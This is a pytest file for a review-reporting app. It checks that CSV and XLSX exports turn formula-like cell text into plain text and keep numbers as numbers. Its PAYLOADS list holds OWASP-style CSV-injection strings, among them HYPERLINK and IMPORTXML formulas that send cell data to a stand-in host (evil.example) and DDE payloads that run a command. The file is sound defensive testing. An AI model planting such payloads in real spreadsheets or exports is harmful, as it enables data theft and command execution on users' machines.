"""Exports without formulas: a text cell that a spreadsheet would read as a formula is given as
text, in the CSV and in the XLSX, as OWASP's CSV-injection guidance says; numbers stay numbers."""

import csv
import io

import pytest
from openpyxl import load_workbook

from reviews.documents.context import build_context
from reviews.documents.exports import export_rows, safe_cell, to_csv, to_xlsx
from tests import factories
from tests.reviews.test_documents import approved

pytestmark = pytest.mark.django_db

# OWASP's CSV-injection payloads, and the characters its guidance names.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", A1), "//a")',
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_cell_neutralises_every_payload_and_keeps_it_readable(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", [0, 17, -4, 12.5, None, "On track", "2026-06-30", "a = b"])
def test_safe_cell_leaves_numbers_and_plain_text_alone(value):
    assert safe_cell(value) == value


@pytest.fixture
def cycle():
    return factories.ReviewCycleFactory(year=2026)


@pytest.fixture
def poisoned(cycle):
    """Approved reports whose milestone titles were typed as formulas, one payload each."""
    titles = []
    for index, payload in enumerate(PAYLOADS):
        report = approved(cycle, f"Project {index}", f"P{index}")
        milestone = report.updates.get().milestone
        milestone.title = payload
        milestone.save(update_fields=["title"])
        titles.append(payload)
    return titles


def test_csv_export_gives_every_payload_as_text(poisoned, cycle):
    rows = list(
        csv.reader(io.StringIO(to_csv(export_rows(build_context(cycle=cycle))).decode("utf-8-sig")))
    )

    titles = [row[3] for row in rows if len(row) > 3]
    assert sorted(t for t in titles if t.startswith("'")) == sorted("'" + p for p in poisoned)
    assert not [t for t in titles if t[:1] in {"=", "+", "-", "@", "\t", "\r"}]


def test_xlsx_export_has_no_formula_cell_and_numbers_stay_numbers(poisoned, cycle):
    book = load_workbook(io.BytesIO(to_xlsx(export_rows(build_context(cycle=cycle)))))

    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    titles = [c.value for c in book["Milestones"]["D"][1:]]
    assert sorted(t for t in titles if str(t).startswith("'")) == sorted("'" + p for p in poisoned)
    rows = [(row[0].value, row[1].value) for row in book["Figures"].iter_rows(min_row=3)]
    # A first cycle compares with nothing: those rows say so and carry no number.
    assert all(isinstance(n, int) for label, n in rows if "compare" not in label)
    assert [n for label, n in rows if "no previous cycle to compare with" in label] == [None] * 3
